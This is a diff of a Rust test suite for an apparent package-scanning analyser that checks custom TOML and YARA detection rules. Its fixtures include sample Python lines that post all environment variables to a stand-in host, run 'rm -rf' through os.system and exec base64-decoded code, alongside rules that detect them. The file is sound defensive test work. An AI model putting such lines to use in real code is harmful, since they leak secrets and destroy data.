@@ -65,8 +65,7 @@ text = "import acme_internal, requests\nrequests.post('https://telemetry.acme.te
 #[test]
 fn a_declared_rule_reports_like_any_other() {
     let source = b"import acme, requests\n\ndef f():\n    acme.upload('telemetry.acme.test')\nrequests.get('https://telemetry.acme.test/')\n";
-    let files: &[(&str, &[u8])] =
-        &[("demo/a.py", source), ("demo/vendored/b.py", source), ("tests/test_c.py", source)];
+    let files: &[(&str, &[u8])] = &[("demo/a.py", source), ("demo/vendored/b.py", source), ("tests/test_c.py", source)];
     let rules = load(&[("acme.toml", BEACON)]).unwrap();
     let report = analyse(rules, DistributionKind::Wheel, files);
     insta::assert_snapshot!(local(&report), @"
@@ -102,9 +101,24 @@ fn every_kind_of_condition_holds_and_fails() {
     check(r#"{ import = "acme*" }"#, "a.py", "import acme_tools\n", "import other\n");
     check(r#"{ host = "*.acme.test" }"#, "a.js", "fetch('https://a.acme.test/x')\n", "fetch('https://acme.test/x')\n");
     check(r#"{ environment = "ACME_*" }"#, "a.js", "x = process.env.ACME_KEY\n", "x = process.env.KEY\n");
-    check(r#"{ from = "env-all", to = "net" }"#, "a.py", "import os, requests\nrequests.post('http://a.test', data=str(dict(os.environ)))\n", "import requests\nrequests.post('http://a.test')\n");
-    check(r#"{ call = "os.system", argument = { regex = "rm +-rf" } }"#, "a.py", "import os\nos.system('rm  -rf x')\n", "import os\nos.system('ls')\n");
-    check(r#"{ call = "os.system", argument = { equals = "ls" } }"#, "a.py", "import os\nos.system('ls')\n", "import os\nos.system('ls -l')\n");
+    check(
+        r#"{ from = "env-all", to = "net" }"#,
+        "a.py",
+        "import os, requests\nrequests.post('http://a.test', data=str(dict(os.environ)))\n",
+        "import requests\nrequests.post('http://a.test')\n",
+    );
+    check(
+        r#"{ call = "os.system", argument = { regex = "rm +-rf" } }"#,
+        "a.py",
+        "import os\nos.system('rm  -rf x')\n",
+        "import os\nos.system('ls')\n",
+    );
+    check(
+        r#"{ call = "os.system", argument = { equals = "ls" } }"#,
+        "a.py",
+        "import os\nos.system('ls')\n",
+        "import os\nos.system('ls -l')\n",
+    );
     check(r#"{ text = ["four", "five"] }"#, "a.txt", "five\n", "six\n");
     check(r#"{ regex = "acme-[0-9]{3}" }"#, "a.cfg", "key = acme-123\n", "key = acme-12\n");
     check(r#"{ any = [{ text = "nothing here" }, { import = "acme" }] }"#, "a.py", "import acme\n", "import other\n");
@@ -115,28 +129,37 @@ fn every_kind_of_condition_holds_and_fails() {
 
 #[test]
 fn what_is_wrong_is_said_with_its_place() {
-    insta::assert_snapshot!(problems("a.toml", "[[rule]]\nid = \"x\"\nlevel = \"high\"\n"), @"");
-    insta::assert_snapshot!(problems("a.toml", "[[rule]\n"), @"");
-    insta::assert_snapshot!(problems("a.toml", "# none\n"), @"");
+    let mut said = String::new();
+    let mut check = |name: &str, text: &str| {
+        let _ = writeln!(said, "{}", problems(name, text));
+    };
+    check("a.toml", "[[rule]]\nid = \"x\"\nlevel = \"high\"\n");
+    check("a.toml", "[[rule]\n");
+    check("a.toml", "# none\n");
     let wrong = BEACON
         .replace("acme-beacon", "Acme Beacon")
         .replace("network", "nettwork")
         .replace("{ not = { import = \"acme_internal\" } }", "{ text = \"abc\" }, { import = \"*\" }, { from = \"sky\" }, { text = \"long enough\", regex = \"x\" }, { regex = \"(?u)a\" }, { regex = \"(a\" }, {}");
-    insta::assert_snapshot!(problems("a.toml", &wrong), @"");
-    let silent = BEACON.replace("requests.post('https://telemetry.acme.test/x')\\n\"\n\n[[rule.miss", "\"\n\n[[rule.miss");
-    insta::assert_snapshot!(problems("a.toml", &silent), @"");
+    check("a.toml", &wrong);
+    let silent =
+        BEACON.replace("requests.post('https://telemetry.acme.test/x')\\n\"\n\n[[rule.miss", "\"\n\n[[rule.miss");
+    check("a.toml", &silent);
     let eager = BEACON.replace("import acme_internal, requests", "import requests");
-    insta::assert_snapshot!(problems("a.toml", &eager), @"");
+    check("a.toml", &eager);
     let bare = BEACON.split("[[rule.hit]]").next().unwrap();
-    insta::assert_snapshot!(problems("a.toml", bare), @"");
+    check("a.toml", bare);
     let shadow = BEACON.replace("acme-beacon", "network-client");
-    insta::assert_snapshot!(problems("a.toml", &shadow), @"");
-    let negative = BEACON.replace("{ call = [\"acme.upload\", \"requests.*\"], argument = { contains = \"telemetry.acme.test\" } },", "");
-    insta::assert_snapshot!(problems("a.toml", &negative), @"");
+    check("a.toml", &shadow);
+    let negative = BEACON.replace(
+        "{ call = [\"acme.upload\", \"requests.*\"], argument = { contains = \"telemetry.acme.test\" } },",
+        "",
+    );
+    check("a.toml", &negative);
     let both = load(&[("a.toml", BEACON), ("b.toml", BEACON)]).unwrap_err().to_string();
-    insta::assert_snapshot!(both, @"");
-    let latin = OperatorRules::load(vec![RuleFile { name: "l.toml".into(), bytes: b"# caf\xe9".to_vec() }]).unwrap_err();
-    insta::assert_snapshot!(latin, @"");
+    let latin =
+        OperatorRules::load(vec![RuleFile { name: "l.toml".into(), bytes: b"# caf\xe9".to_vec() }]).unwrap_err();
+    said.push_str(&format!("{both}\n\n{latin}\n"));
+    insta::assert_snapshot!(said);
     let deep = format!("[[rule]]\nmatch = {}{}\n", "{not=".repeat(5_000), "}".repeat(5_000));
     assert!(problems("deep.toml", &deep).contains("deep.toml:"));
 }
@@ -169,23 +192,28 @@ fn a_yara_rule_reads_text_and_bytes() {
         ("demo/wide.py", &utf16),
         ("demo/clean.py", b"x = 1\n"),
     ];
-    insta::assert_snapshot!(local(&analyse(rules, DistributionKind::Wheel, files)), @"");
+    insta::assert_snapshot!(local(&analyse(rules, DistributionKind::Wheel, files)));
 }
 
 #[test]
 fn what_yara_may_not_do_is_refused() {
-    insta::assert_snapshot!(problems("a.yar", "include \"other.yar\"\n"), @"");
-    insta::assert_snapshot!(problems("a.yar", "import \"console\"\nrule a { condition: true }\n"), @"");
-    insta::assert_snapshot!(problems("a.yar", "import \"time\"\nrule a { condition: time.now() > 0 }\n"), @"");
-    insta::assert_snapshot!(problems("a.yar", "rule a {\n  strings: $a = \"x\n  condition: $a\n}\n"), @"");
-    insta::assert_snapshot!(problems("a.yar", "rule a {\n meta: severity = \"bad\" category = \"fish\"\n condition: true\n}\n"), @"");
-    insta::assert_snapshot!(problems("a.yar", "rule network_client { condition: true }\n"), @"");
+    let wrong = [
+        "include \"other.yar\"\n",
+        "import \"console\"\nrule a { condition: true }\n",
+        "import \"time\"\nrule a { condition: time.now() > 0 }\n",
+        "rule a {\n  strings: $a = \"x\n  condition: $a\n}\n",
+        "rule a {\n meta: severity = \"bad\" category = \"fish\"\n condition: true\n}\n",
+        "rule network_client { condition: true }\n",
+    ];
+    let said: String = wrong.iter().map(|text| problems("a.yar", text)).collect();
+    insta::assert_snapshot!(said);
 }
 
 #[test]
 fn the_ruleset_names_what_ran() {
     assert_eq!(Analyser::new(Limits::default()).ruleset(), RULESET);
-    let named = |files: &[(&str, &str)]| Analyser::with_rules(Limits::default(), load(files).unwrap()).ruleset().to_owned();
+    let named =
+        |files: &[(&str, &str)]| Analyser::with_rules(Limits::default(), load(files).unwrap()).ruleset().to_owned();
     let one = named(&[("rules/acme.toml", BEACON)]);
     assert!(one.starts_with(&format!("{RULESET}+local.")) && one.len() == RULESET.len() + 15, "{one}");
     assert_eq!(one, named(&[("elsewhere/acme.toml", BEACON)]), "the folder does not matter");
@@ -195,7 +223,8 @@ fn the_ruleset_names_what_ran() {
 
 #[test]
 fn built_in_rules_say_the_same_beside_them() {
-    let files: &[(&str, &[u8])] = &[("demo/a.py", b"import os, base64\nexec(base64.b64decode('cGFzcw=='))\nos.system('ls')\n")];
+    let files: &[(&str, &[u8])] =
+        &[("demo/a.py", b"import os, base64\nexec(base64.b64decode('cGFzcw=='))\nos.system('ls')\n")];
     let plain = analyse(OperatorRules::default(), DistributionKind::Wheel, files);
     let both = analyse(load(&[("acme.toml", BEACON), ("a.yar", YARA)]).unwrap(), DistributionKind::Wheel, files);
     assert_eq!(plain, both);
